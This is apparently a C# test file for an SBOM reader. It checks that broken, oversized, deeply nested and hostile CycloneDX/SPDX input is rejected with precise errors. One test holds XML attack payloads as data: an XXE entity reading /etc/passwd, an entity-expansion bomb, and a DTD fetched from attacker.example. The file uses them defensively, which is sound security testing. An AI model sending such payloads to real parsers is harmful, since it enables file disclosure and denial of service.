using System.Text;
using McpSecurity.Ingestion.Sbom;
using McpSecurity.Testing;

namespace McpSecurity.Ingestion.Tests.Sbom;

/// <summary>Hostile and broken input is rejected with an <see cref="SbomFormatException"/> that says where and why.</summary>
public sealed class BadInputTests
{
    private const string MinimalJson = """
        {"bomFormat":"CycloneDX","specVersion":"1.6","version":1,"components":[{"type":"library","name":"a","bom-ref":"a"}]}
        """;

    private static SbomFormatException Reject(string content, string fileName, SbomReaderOptions? options = null) =>
        Assert.Throws<SbomFormatException>(() => SbomReader.Read(Encoding.UTF8.GetBytes(content), fileName, options));

    [Fact]
    public void TruncatedJson_NamesLineAndPosition()
    {
        var bytes = File.ReadAllBytes(TestData.Path("sbom", "cyclonedx", "real", "SBOM", "keycloak-10.0.2", "bom.json"));

        var ex = Assert.Throws<SbomFormatException>(() => SbomReader.Read(bytes.AsMemory(0, 5000), "bom.json"));

        Assert.StartsWith("line ", ex.Location, StringComparison.Ordinal);
        Assert.Contains("bom.json", ex.Message, StringComparison.Ordinal);
        Assert.Contains("malformed JSON", ex.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void MalformedJson_NamesLineAndPosition()
    {
        var ex = Reject("{\n  \"bomFormat\": \"CycloneDX\",\n  \"specVersion\": 1.6 oops\n}", "broken.json");

        Assert.Equal("line 3, position 22", ex.Location);
    }

    [Fact]
    public void TruncatedXml_NamesLine()
    {
        var bytes = File.ReadAllBytes(TestData.Path("sbom", "cyclonedx", "real", "SBOM", "keycloak-10.0.2", "bom.xml"));

        var ex = Assert.Throws<SbomFormatException>(() => SbomReader.Read(bytes.AsMemory(0, 5000), "bom.xml"));

        Assert.StartsWith("line ", ex.Location, StringComparison.Ordinal);
        Assert.Contains("malformed XML", ex.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void MismatchedXmlTags_NamesLine()
    {
        var ex = Reject("<bom xmlns=\"http://cyclonedx.org/schema/bom/1.4\" version=\"1\">\n<components>\n</bom>", "bad.xml");

        Assert.StartsWith("line 3", ex.Location, StringComparison.Ordinal);
    }

    [Fact]
    public void OversizedInput_IsRejectedBeforeParsing()
    {
        var options = new SbomReaderOptions { MaxInputBytes = 4096 };
        using var stream = File.OpenRead(TestData.Path("sbom", "cyclonedx", "real", "SBOM", "keycloak-10.0.2", "bom.json"));

        var ex = Assert.Throws<SbomFormatException>(() => SbomReader.Read(stream, "bom.json", options));

        Assert.Contains("MaxInputBytes", ex.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void OversizedNonSeekableStream_IsRejected()
    {
        var options = new SbomReaderOptions { MaxInputBytes = 100 };
        using var stream = new NonSeekableStream(Encoding.UTF8.GetBytes(MinimalJson + new string(' ', 500)));

        var ex = Assert.Throws<SbomFormatException>(() => SbomReader.Read(stream, "big.json", options));

        Assert.Contains("MaxInputBytes", ex.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<!DOCTYPE bom [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<bom xmlns=\"http://cyclonedx.org/schema/bom/1.4\" version=\"1\"><components><component type=\"library\"><name>&xxe;</name></component></components></bom>")]
    [InlineData("<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;\">]>\n<bom xmlns=\"http://cyclonedx.org/schema/bom/1.4\"><metadata><component type=\"library\"><name>&lol2;</name></component></metadata></bom>")]
    [InlineData("<!DOCTYPE bom SYSTEM \"http://attacker.example/bom.dtd\">\n<bom xmlns=\"http://cyclonedx.org/schema/bom/1.4\"/>")]
    public void XmlWithDtd_IsRefused(string xml)
    {
        var ex = Reject(xml, "evil.xml");

        Assert.Contains("DTD", ex.Reason, StringComparison.Ordinal);
        Assert.Contains("evil.xml", ex.Message, StringComparison.Ordinal);
        Assert.False(string.IsNullOrEmpty(ex.Location));
        Assert.DoesNotContain("passwd", ex.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void DuplicateComponents_AreRejected_OrKeptWhenLenient()
    {
        const string Json = """
            {"bomFormat":"CycloneDX","specVersion":"1.5","components":[
              {"type":"library","name":"a","bom-ref":"dup"},
              {"type":"library","name":"b","bom-ref":"dup"}]}
            """;

        var ex = Reject(Json, "dup.json");
        Assert.Equal("$.components[1]['bom-ref']", ex.Location);
        Assert.Contains("not unique", ex.Reason, StringComparison.Ordinal);

        var lenient = SbomReader.Read(Encoding.UTF8.GetBytes(Json), "dup.json", new SbomReaderOptions { Validate = false });
        Assert.Equal(["a", "b"], lenient.Components.Select(c => c.Name));
    }

    [Fact]
    public void DeeplyNestedJson_IsRejectedAtTheDepthLimit()
    {
        var sb = new StringBuilder("{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.6\",\"components\":[");
        const int Levels = 100;
        for (var i = 0; i < Levels; i++)
        {
            sb.Append("{\"type\":\"library\",\"name\":\"n\",\"components\":[");
        }

        sb.Append(']', 1);
        for (var i = 0; i < Levels; i++)
        {
            sb.Append("}]");
        }

        sb.Append('}');

        var ex = Reject(sb.ToString(), "deep.json");

        Assert.Contains("depth", ex.Reason, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void DeeplyNestedXml_IsRejectedAtTheDepthLimit()
    {
        var sb = new StringBuilder("<bom xmlns=\"http://cyclonedx.org/schema/bom/1.4\" version=\"1\"><components>");
        const int Levels = 60;
        for (var i = 0; i < Levels; i++)
        {
            sb.Append("<component type=\"library\"><name>n</name><components>");
        }

        for (var i = 0; i < Levels; i++)
        {
            sb.Append("</components></component>");
        }

        sb.Append("</components></bom>");

        var ex = Reject(sb.ToString(), "deep.xml");

        Assert.Contains("MaxDepth", ex.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void ModerateNesting_IsFlattenedWithParents()
    {
        var doc = SbomReader.Read(Encoding.UTF8.GetBytes("""
            {"bomFormat":"CycloneDX","specVersion":"1.6","components":[
              {"type":"library","name":"p","bom-ref":"p","components":[
                {"type":"library","name":"c","bom-ref":"c","components":[{"type":"library","name":"g"}]}]}]}
            """), "nested.json");

        Assert.Equal(["p", "c", "g"], doc.Components.Select(c => c.Name));
        Assert.Equal([null, 0, 1], doc.Components.Select(c => c.ParentIndex));
        Assert.Equal([null, "p", "c"], doc.Components.Select(c => c.ParentRef));
    }

    [Fact]
    public void DanglingDependency_IsReportedAsWarning()
    {
        var doc = SbomReader.Read(Encoding.UTF8.GetBytes("""
            {"bomFormat":"CycloneDX","specVersion":"1.4","components":[{"type":"library","name":"a","bom-ref":"a"}],
             "dependencies":[{"ref":"a","dependsOn":["ghost"]}]}
            """), "dangling.json");

        Assert.Equal([new SbomDependency("a", "ghost", SbomRelationship.DependsOn, null)], doc.Dependencies);
        Assert.Contains(doc.Warnings, w => w.Contains("'ghost'", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("")]
    [InlineData("   \n ")]
    [InlineData("hello world")]
    [InlineData("[1,2,3]")]
    public void UnrecognisedInput_IsRejected(string content)
    {
        var ex = Reject(content, "mystery.txt");

        Assert.Contains("mystery.txt", ex.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void WrongJsonType_NamesThePath()
    {
        var ex = Reject("""{"bomFormat":"CycloneDX","specVersion":"1.6","components":[{"type":"library","name":"a","hashes":{}}]}""", "types.json");

        Assert.Equal("$.components[0].hashes", ex.Location);
        Assert.Contains("must be an array", ex.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.6\"}", SbomFormat.CycloneDxJson)]
    [InlineData("\uFEFF  {\"specVersion\":\"1.3\",\"components\":[]}", SbomFormat.CycloneDxJson)]
    [InlineData("<?xml version=\"1.0\"?><bom xmlns=\"http://cyclonedx.org/schema/bom/1.1\"/>", SbomFormat.CycloneDxXml)]
    [InlineData("{\"spdxVersion\":\"SPDX-2.3\"}", SbomFormat.Spdx2Json)]
    [InlineData("{\"@context\":\"https://spdx.org/rdf/3.0.1/spdx-context.jsonld\",\"@graph\":[]}", SbomFormat.Spdx3JsonLd)]
    [InlineData("SPDXVersion: SPDX-2.2\nDataLicense: CC0-1.0", SbomFormat.Spdx2TagValue)]
    [InlineData("plain text", SbomFormat.Unknown)]
    public void DetectFormat_UsesContent(string content, SbomFormat expected)
    {
        Assert.Equal(expected, SbomReader.DetectFormat(Encoding.UTF8.GetBytes(content)));
    }

    [Fact]
    public void DetectFormat_FallsBackToFileName()
    {
        Assert.Equal(SbomFormat.Spdx2Json, SbomReader.DetectFormat("{}"u8, "x.spdx.json"));
        Assert.Equal(SbomFormat.Unknown, SbomReader.DetectFormat("{}"u8, null));
    }

    private sealed class NonSeekableStream(byte[] data) : MemoryStream(data)
    {
        public override bool CanSeek => false;

        public override long Length => throw new NotSupportedException();
    }
}
